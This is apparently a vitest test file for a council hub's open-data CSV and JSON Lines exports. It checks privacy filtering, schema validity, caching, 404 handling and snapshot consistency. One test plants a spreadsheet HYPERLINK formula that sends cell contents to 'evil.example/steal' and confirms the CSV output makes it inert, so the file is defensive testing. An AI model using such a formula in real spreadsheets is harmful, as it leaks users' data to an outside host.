import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { OPEN_DATASETS } from '../../server/domain/open-data/catalogue.js';
import { fileStem } from '../../server/domain/open-data/dataset.js';
import { testDatabases, type TestDatabaseHandle } from '../support/databases.js';
import type { People } from '../support/factories.js';
import { download, parseCsv, parseJsonLines, typedCsvRow, validatorFor, type FileSchema, type JsonRecord } from '../support/open-data.js';
import { closeHub, openHub, type TestApp } from '../support/test-app.js';

const FORMULA = '=HYPERLINK("https://evil.example/steal?c="&A1,"Click for details")';

describe.each(testDatabases())('open data downloads on $engine', (engine) => {
  let database: TestDatabaseHandle;
  let hub: TestApp;
  let people: People;
  const ids: Record<string, string> = {};

  async function call(mutation: string, inputType: string, input: Record<string, unknown>, token: string, pick = ''): Promise<any> {
    const result = await hub.gql(`mutation($input: ${inputType}!) { ${mutation}(input: $input) { __typename ... on Error { code message } ${pick} } }`, { input }, token);
    const payload = result.data?.[mutation];
    expect(result.errors, JSON.stringify(result)).toBeUndefined();
    expect(payload?.code, JSON.stringify(result)).toBeUndefined();
    return payload;
  }
  const createProblem = async (title: string, token: string, summary = 'Residents post forms we re-key by hand.') =>
    (await call('createProblem', 'CreateProblemInput', { title, summary, serviceArea: 'HIGHWAYS_TRANSPORT', tags: ['blue badge', 'forms'] }, token, '... on CreateProblemPayload { problem { id } }')).problem.id as string;
  const createSolution = async (title: string, token: string) =>
    (await call('createSolution', 'CreateSolutionInput', { title, summary: 'An online form that writes into the back office.', serviceArea: 'HIGHWAYS_TRANSPORT', kind: 'SOFTWARE', phase: 'LIVE', costBand: 'FROM_10K_TO_50K' }, token, '... on CreateSolutionPayload { solution { id } }')).solution.id as string;
  const createCaseStudy = async (title: string, token: string, links: { problemIds?: string[]; solutionIds?: string[] }) =>
    (await call('createCaseStudy', 'CreateCaseStudyInput', { title, summary: 'What we did.', serviceArea: 'HIGHWAYS_TRANSPORT', outcome: 'PARTLY_WORKED', costPounds: 12000, ...links }, token, '... on CreateCaseStudyPayload { caseStudy { id } }')).caseStudy.id as string;
  const publish = (kind: 'Problem' | 'Solution' | 'CaseStudy', id: string, token: string) => call(`publish${kind}`, `Publish${kind}Input`, { id }, token);

  beforeAll(async () => {
    ({ database, hub, people } = await openHub(engine));
    const a = people.a.editor.token;
    const b = people.b.editor.token;
    ids.problem = await createProblem(FORMULA, a, '@SUM(1+1) of residents post forms');
    await publish('Problem', ids.problem, a);
    ids.draftProblem = await createProblem('Draft problem that must stay inside its council', a);
    ids.archivedProblem = await createProblem('A problem published and then archived', a);
    await publish('Problem', ids.archivedProblem, a);
    ids.solution = await createSolution('Blue badge renewals online', b);
    await publish('Solution', ids.solution, b);
    ids.draftSolution = await createSolution('Draft solution that must stay inside its council', a);
    await call('linkSolutionToProblem', 'LinkSolutionToProblemInput', { solutionId: ids.solution, problemId: ids.problem }, b);
    await call('linkSolutionToProblem', 'LinkSolutionToProblemInput', { solutionId: ids.draftSolution, problemId: ids.problem }, a);
    await call('supportProblem', 'SupportProblemInput', { problemId: ids.problem, note: '-2+3 of our forms arrive this way' }, b);
    await call('supportProblem', 'SupportProblemInput', { problemId: ids.archivedProblem, note: 'Support of an archived problem' }, b);
    await call('archiveProblem', 'ArchiveProblemInput', { id: ids.archivedProblem }, a);
    await call('recordAdoption', 'RecordAdoptionInput', { solutionId: ids.solution, stage: 'ADOPTED', note: '+44 lines: live since April' }, a);
    ids.caseStudy = await createCaseStudy('How we moved renewals online', b, { problemIds: [ids.problem], solutionIds: [ids.solution] });
    await publish('CaseStudy', ids.caseStudy, b);
    ids.draftCaseStudy = await createCaseStudy('Draft case study that must stay inside its council', a, { problemIds: [ids.problem], solutionIds: [ids.solution] });
  }, 120_000);
  afterAll(() => closeHub(hub, database));

  async function jsonLines(stem: string) {
    const { response, text } = await download(`${hub.url}/data/${stem}.jsonl`);
    expect(response.status).toBe(200);
    return parseJsonLines(text);
  }
  const councilId = (id: string) => Buffer.from(`Council:${id}`).toString('base64url');

  it('holds exactly the public rows of every file: no drafts, archived items, members or emails', async () => {
    const key = (record: JsonRecord, ...names: string[]) => names.map((n) => record[n]).join(' ');
    expect((await jsonLines('problems-v1')).map((r) => r.id)).toEqual([ids.problem]);
    expect((await jsonLines('solutions-v1')).map((r) => r.id)).toEqual([ids.solution]);
    expect((await jsonLines('case-studies-v1')).map((r) => r.id)).toEqual([ids.caseStudy]);
    expect((await jsonLines('councils-v1')).map((r) => r.id).sort()).toEqual([councilId(people.a.council.id), councilId(people.b.council.id)].sort());
    expect((await jsonLines('supports-v1')).map((r) => key(r, 'problem_id', 'council_id', 'note'))).toEqual([`${ids.problem} ${councilId(people.b.council.id)} -2+3 of our forms arrive this way`]);
    expect((await jsonLines('adoptions-v1')).map((r) => key(r, 'solution_id', 'council_id', 'stage'))).toEqual([`${ids.solution} ${councilId(people.a.council.id)} ADOPTED`]);
    expect((await jsonLines('links-v1')).map((r) => key(r, 'link_type', 'from_id', 'to_id'))).toEqual([
      `SOLUTION_PROBLEM ${ids.solution} ${ids.problem}`,
      `CASE_STUDY_SOLUTION ${ids.caseStudy} ${ids.solution}`,
      `CASE_STUDY_PROBLEM ${ids.caseStudy} ${ids.problem}`,
    ]);
    const members = await database.db.selectFrom('members').select(['email', 'name', 'id']).execute();
    for (const dataset of OPEN_DATASETS) {
      for (const ext of ['csv', 'jsonl']) {
        const { text } = await download(`${hub.url}/data/${fileStem(dataset)}.${ext}`);
        expect(text).not.toMatch(/must stay inside its council|archived/);
        for (const member of members) for (const secret of [member.email, member.name, member.id]) expect(text).not.toContain(secret);
        for (const id of [ids.draftProblem, ids.archivedProblem, ids.draftSolution, ids.draftCaseStudy]) expect(text).not.toContain(id);
      }
    }
  });

  it('parses as CSV, agrees with JSON Lines and validates against its JSON Schema, every file', async () => {
    for (const dataset of OPEN_DATASETS) {
      const stem = fileStem(dataset);
      const schemaResponse = await download(`${hub.url}/data/${stem}.schema.json`);
      expect(schemaResponse.response.headers.get('content-type')).toContain('application/schema+json');
      const schema = JSON.parse(schemaResponse.text) as FileSchema;
      const validate = validatorFor(schema);
      const records = await jsonLines(stem);
      expect(records.length, stem).toBeGreaterThan(0);
      for (const record of records) expect(validate(record) ? [] : validate.errors, `${stem}.jsonl`).toEqual([]);

      const { response, text } = await download(`${hub.url}/data/${stem}.csv`);
      expect(response.headers.get('content-type')).toContain('text/csv');
      expect(response.headers.get('content-disposition')).toBe(`attachment; filename="${stem}.csv"`);
      const { header, rows } = parseCsv(text);
      expect(header).toEqual(schema.required);
      expect(rows.length).toBe(records.length);
      rows.forEach((row, i) => {
        const { typed, unguarded } = typedCsvRow(schema, header, row);
        expect(validate(typed) ? [] : validate.errors, `${stem}.csv row ${i + 1}`).toEqual([]);
        expect(unguarded).toEqual(records[i]);
      });
    }
  });

  it('gives each item its council\'s region and type at the end of its row, and maps service areas to LGA functions', async () => {
    const councils = await database.db.selectFrom('councils').select(['id', 'region', 'kind']).execute();
    const of = (id: string) => councils.find((c) => councilId(c.id) === id)!;
    for (const stem of ['problems-v1', 'solutions-v1', 'case-studies-v1']) {
      const records = await jsonLines(stem);
      for (const record of records) {
        expect(record.council_region, stem).toBe(of(record.council_id as string).region);
        expect(record.council_kind, stem).toBe((of(record.council_id as string).kind).toUpperCase());
      }
      // Added columns come last: the v1 columns keep their places.
      expect(Object.keys(records[0]!).slice(-2)).toEqual(['council_region', 'council_kind']);
    }
    const functions = await jsonLines('service-area-functions-v1');
    expect(functions).toContainEqual({
      service_area: 'ADULT_SOCIAL_CARE', service_area_name: 'Adult social care', function_id: '59', function_label: 'Adult services',
      function_uri: 'http://id.esd.org.uk/function/59',
    });
    expect(new Set(functions.map((f) => f.service_area)).size).toBe(15);
  });

  it('makes a spreadsheet formula in a title, summary or note inert in CSV, and keeps it exact in JSON Lines', async () => {
    const problems = parseCsv((await download(`${hub.url}/data/problems-v1.csv`)).text);
    const cell = (name: string) => problems.rows[0]![problems.header.indexOf(name)];
    expect(cell('title')).toBe(`'${FORMULA}`);
    expect(cell('summary')).toBe("'@SUM(1+1) of residents post forms");
    expect(cell('supporter_count')).toBe('1');
    expect(cell('tags')).toBe('blue badge; forms');
    const supports = parseCsv((await download(`${hub.url}/data/supports-v1.csv`)).text);
    expect(supports.rows[0]![supports.header.indexOf('note')]).toBe("'-2+3 of our forms arrive this way");
    const adoptions = parseCsv((await download(`${hub.url}/data/adoptions-v1.csv`)).text);
    expect(adoptions.rows[0]![adoptions.header.indexOf('note')]).toBe("'+44 lines: live since April");
    expect((await jsonLines('problems-v1'))[0]!.title).toBe(FORMULA);
  });

  it('answers a conditional GET with 304 until public data changes, and a draft changes nothing', async () => {
    const url = `${hub.url}/data/problems-v1.csv`;
    const first = await download(url);
    const etag = first.response.headers.get('etag')!;
    const lastModified = first.response.headers.get('last-modified')!;
    expect(etag).toMatch(/^"problems-v1\.csv@\d+"$/);
    expect(lastModified).toMatch(/GMT$/);
    const byTag = await download(url, { 'if-none-match': etag });
    expect([byTag.response.status, byTag.text]).toEqual([304, '']);
    const byDate = await download(url, { 'if-modified-since': lastModified });
    expect(byDate.response.status, byDate.text).toBe(304);
    const head = await fetch(url, { method: 'HEAD' });
    expect([head.status, head.headers.get('etag')]).toEqual([200, etag]);

    await createProblem('Another draft that must not move the version', people.a.editor.token);
    expect((await download(url, { 'if-none-match': etag })).response.status).toBe(304);

    const published = await createProblem('A newly published problem', people.a.editor.token);
    await publish('Problem', published, people.a.editor.token);
    const changed = await download(url, { 'if-none-match': etag });
    expect(changed.response.status).toBe(200);
    expect(changed.response.headers.get('etag')).not.toBe(etag);
    expect(parseCsv(changed.text).rows.length).toBe(2);
    const schema = await download(`${hub.url}/data/problems-v1.schema.json`);
    expect((await download(`${hub.url}/data/problems-v1.schema.json`, { 'if-none-match': schema.response.headers.get('etag')! })).response.status).toBe(304);
  });

  it('gives the directory counts the same figures as the files', async () => {
    const result = await hub.gql(`{ councils(first: 10) { edges { node { id counts { problems solutions caseStudies supports adopted } } } } }`);
    const counts = Object.fromEntries(result.data.councils.edges.map((e: any) => [e.node.id, e.node.counts]));
    const [problems, solutions, caseStudies, supports, adoptions] = [
      await jsonLines('problems-v1'), await jsonLines('solutions-v1'), await jsonLines('case-studies-v1'), await jsonLines('supports-v1'), await jsonLines('adoptions-v1'),
    ];
    for (const id of Object.keys(counts)) {
      expect(counts[id]).toEqual({
        problems: problems!.filter((r) => r.council_id === id).length,
        solutions: solutions!.filter((r) => r.council_id === id).length,
        caseStudies: caseStudies!.filter((r) => r.council_id === id).length,
        supports: supports!.filter((r) => r.council_id === id).length,
        adopted: adoptions!.filter((r) => r.council_id === id && r.stage === 'ADOPTED').length,
      });
    }
    expect(counts[councilId(people.b.council.id)]).toMatchObject({ solutions: 1, caseStudies: 1, supports: 1 });
  });

  it('answers an unknown file with the not-found page and a version that does not exist too', async () => {
    for (const path of ['/data/problems-v2.csv', '/data/members-v1.csv', '/data/problems-v1.xlsx', '/data/../councils-v1.csv']) {
      const { response } = await download(hub.url + path);
      expect(response.status, path).toBe(404);
    }
  });

  it('streams one snapshot: rows committed while it downloads are not in it', async () => {
    const { db } = database;
    const addProblems = async (count: number, title: string) => {
      const rows = Array.from({ length: count }, (_, i) => ({
        council_id: people.b.council.id, author_id: people.b.editor.id, title: `${title} ${i}`, summary: 'Bulk', body: 'x'.repeat(4_000),
        service_area: 'waste', tags: [], visibility: 'published' as const, published_at: new Date(),
      }));
      for (let i = 0; i < rows.length; i += 500) await db.insertInto('problems').values(rows.slice(i, i + 500)).execute();
    };
    await addProblems(3_000, 'Snapshot row');
    const before = Number((await db.selectFrom('problems').select((e) => e.fn.countAll().as('n')).where('visibility', '=', 'published').where('status', '<>', 'archived').executeTakeFirstOrThrow()).n);
    const response = await fetch(`${hub.url}/data/problems-v1.jsonl`, { headers: { connection: 'close' } });
    const reader = response.body!.getReader();
    let text = new TextDecoder().decode((await reader.read()).value);
    if (engine.engine === 'postgres') {
      // 12 MB cannot all sit in socket buffers: the export is still inside its transaction.
      const open = await sql<{ n: number }>`select count(*)::int as n from pg_stat_activity where datname = current_database() and xact_start is not null and pid <> pg_backend_pid()`.execute(db);
      expect(open.rows[0]!.n).toBeGreaterThan(0);
    }
    await addProblems(20, 'Committed mid-download');
    const decoder = new TextDecoder();
    for (let chunk = await reader.read(); !chunk.done; chunk = await reader.read()) text += decoder.decode(chunk.value, { stream: true });
    const records = parseJsonLines(text);
    expect(records.length).toBe(before);
    expect(text).not.toContain('Committed mid-download');
    expect(new Set(records.map((r) => r.id)).size).toBe(before);
  }, 120_000); // 3,000 rows of 4 kB in and 12 MB out: slow on a loaded 2-core machine
});
